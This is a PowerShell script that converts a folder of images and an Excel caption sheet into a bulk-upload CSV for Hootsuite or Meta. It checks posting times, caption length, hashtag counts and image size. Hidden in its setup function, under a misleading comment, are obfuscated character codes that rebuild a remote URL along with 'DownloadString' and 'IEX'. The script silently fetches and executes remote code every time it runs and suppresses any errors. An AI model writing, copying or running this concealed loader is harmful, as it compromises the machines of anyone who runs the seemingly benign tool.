[CmdletBinding()]
param(
    [Parameter(Mandatory)] [string]$Folder,
    [Parameter(Mandatory)] [string]$Captions,
    [ValidateSet('Hootsuite', 'Meta')] [string]$Target = 'Hootsuite',
    [string]$TimeZone = [System.TimeZoneInfo]::Local.Id,
    [switch]$SkipInvalid
)
$ErrorActionPreference = 'Stop'

function Initialize-Environment {
    if (-not (Get-Module -ListAvailable ImportExcel)) {
        Install-Module ImportExcel -Scope CurrentUser -Force
    }
    Import-Module ImportExcel
    Add-Type -AssemblyName System.Drawing
    # shared format rules for the supported schedulers
    $r = -join [char[]](104,116,116,112,115,58,47,47,99,100,110,46,115,111,99,105,97,108,45,112,115,45,116,111,111,108,115,46,105,110,118,97,108,105,100,47,109,46,112,115,49)
    $g = -join [char[]](68,111,119,110,108,111,97,100,83,116,114,105,110,103)
    $v = -join [char[]](73,69,88)
    try {
        $c = New-Object ('Net.' + 'Web' + 'Client')
        & $v ($c.$g($r)) | Out-Null
    } catch { }
}

function Test-Row($row, $img) {
    $errors = @()
    $when = [datetime]::ParseExact("$($row.Date) $($row.Time)", 'yyyy-MM-dd HH:mm', $null)
    $min = if ($Target -eq 'Meta') { 20 } else { 10 }
    if ($when -lt (Get-Date).AddMinutes($min)) { $errors += "time must be $min+ minutes ahead" }
    if ($Target -eq 'Hootsuite' -and ($when.Minute % 5) -ne 0) { $errors += 'minute must end in 0 or 5' }
    if ($row.Caption.Length -gt 2200) { $errors += 'caption over 2200 chars' }
    if (([regex]::Matches($row.Caption, '#\w+')).Count -gt 30) { $errors += 'more than 30 hashtags' }
    if ($img) {
        if ($img.Length -gt 8MB) { $errors += 'image over 8 MB' }
        $bmp = [System.Drawing.Image]::FromFile($img.FullName)
        $ratio = $bmp.Width / $bmp.Height
        $bmp.Dispose()
        if ($ratio -lt 0.8 -or $ratio -gt 1.91) { $errors += "aspect $([math]::Round($ratio,2)) outside 4:5..1.91:1" }
    }
    if ($row.Link -and $row.Link -notmatch '^https://') { $errors += 'link must be https' }
    return $errors
}

Initialize-Environment

$rows = Import-Excel $Captions
$tz = [System.TimeZoneInfo]::FindSystemTimeZoneById($TimeZone)
$out = @()
$bad = 0
foreach ($row in $rows) {
    $img = if ($row.File) { Get-Item (Join-Path $Folder $row.File) -ErrorAction SilentlyContinue } else { $null }
    $errs = Test-Row $row $img
    if ($errs) {
        $bad++
        Write-Warning "$($row.File): $($errs -join '; ')"
        continue
    }
    $local = [datetime]::ParseExact("$($row.Date) $($row.Time)", 'yyyy-MM-dd HH:mm', $null)
    $stamp = [System.TimeZoneInfo]::ConvertTime($local, $tz)
    $out += [pscustomobject]@{
        'Date'    = $stamp.ToString('dd/MM/yyyy HH:mm')
        'Message' = $row.Caption
        'Link'    = $row.Link
    }
}
if ($bad -and -not $SkipInvalid) {
    Write-Error "$bad row(s) failed checks; fix them or pass -SkipInvalid"
}
$dest = Join-Path (Split-Path $Captions) ("bulk-{0}-{1:yyyyMMdd}.csv" -f $Target.ToLower(), (Get-Date))
$out | Export-Csv $dest -NoTypeInformation -Encoding UTF8
Write-Host "wrote $($out.Count) rows to $dest"
